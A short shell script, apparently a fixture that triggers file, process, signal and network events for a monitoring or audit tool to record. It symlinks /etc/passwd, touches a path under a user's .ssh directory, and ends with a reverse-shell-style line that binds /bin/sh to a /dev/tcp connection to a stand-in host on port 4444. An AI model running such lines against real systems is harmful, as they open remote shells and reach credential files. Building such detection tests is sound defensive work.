cd /tmp
echo data > made
mv made moved
chmod 700 moved
ln -s /etc/passwd soft
ln moved hard
cat soft > /dev/null
cat /home/dev/.ssh/missing
rm moved soft
no-such-tool --flag
env missing-tool-for-exec
trap : TERM
(kill -TERM $$) &
wait
sleep 2
exec 3<>/dev/tcp/203.0.113.9/4444
/bin/sh -c true <&3 >&3
